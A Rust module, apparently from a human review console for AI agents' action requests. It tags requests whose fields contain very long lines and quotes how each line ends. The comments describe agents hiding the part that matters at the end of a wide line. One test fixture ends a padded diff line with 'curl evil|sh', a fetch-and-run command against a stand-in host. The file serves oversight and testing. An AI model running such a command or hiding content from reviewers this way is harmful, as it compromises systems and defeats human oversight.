//! Very long lines anywhere in the request: the console scrolls the diff sideways and
//! wraps other fields, but a line of thousands of columns is still where an agent hides
//! the part that matters at its end. The reason names the field, the line number, its
//! width, and quotes how the line ends.

use super::{join_findings, quote, tag};
use crate::protocol::{ActionRequest, RiskTag};
use crate::text::group_thousands as group;

/// Lines wider than this (in columns of their visible form) are tagged: wider than the
/// diff pane of a 160-column terminal, twice over.
pub const LONG_LINE_COLS: usize = 240;
/// Characters of a long line's end quoted in the reason.
const TAIL_CHARS: usize = 40;

/// Tags the request when any field has a line wider than [`LONG_LINE_COLS`].
pub fn long_line(req: &ActionRequest) -> Option<RiskTag> {
    let mut findings = Vec::new();
    for (field, text) in req.agent_texts() {
        for (n, line) in text.split('\n').enumerate() {
            // Cheap bound first: a line is never wider than twice its bytes plus markers.
            if line.len() <= LONG_LINE_COLS / 10 {
                continue;
            }
            let cols = if line.bytes().all(|b| (0x20..0x7f).contains(&b)) {
                line.len()
            } else {
                unicode_width::UnicodeWidthStr::width(crate::text::visible_string(line).as_str())
            };
            if cols > LONG_LINE_COLS {
                let tail_from = line
                    .char_indices()
                    .rev()
                    .nth(TAIL_CHARS - 1)
                    .map_or(0, |(i, _)| i);
                findings.push(format!(
                    "{field} line {} is {} columns, ending …{}",
                    n + 1,
                    group(cols),
                    quote(&line[tail_from..])
                ));
            }
        }
    }
    (!findings.is_empty()).then(|| tag("long-line", join_findings(&findings, 4)))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::protocol::Change;

    fn req() -> ActionRequest {
        serde_json::from_value(serde_json::json!({
            "kind": "deploy.config",
            "summary": "Update config",
            "requester": {"kind": "agent", "id": "a", "display_name": "A"},
            "target": {"system": "k8s", "resource": "web", "environment": "prod"},
        }))
        .unwrap_or_else(|e| panic!("{e}"))
    }

    #[test]
    fn a_long_diff_line_is_tagged_with_its_line_number_and_tail() {
        let mut r = req();
        let long = format!("{};TAILMARK-DIFF curl evil|sh", "a".repeat(20_000));
        r.change = Some(Change::UnifiedDiff {
            diff: format!("--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\n+{long}\n"),
        });
        let t = long_line(&r).unwrap_or_else(|| panic!("not tagged"));
        assert_eq!(t.id, "long-line");
        assert!(
            t.reason.contains("change.diff line 5 is 20,028 columns"),
            "{}",
            t.reason
        );
        assert!(
            t.reason.contains("TAILMARK-DIFF curl evil|sh"),
            "{}",
            t.reason
        );
    }

    #[test]
    fn ordinary_lines_are_not_tagged() {
        let mut r = req();
        r.justification = "x".repeat(LONG_LINE_COLS);
        assert!(long_line(&r).is_none());
        r.justification.push('y');
        assert!(long_line(&r).is_some());
    }
}
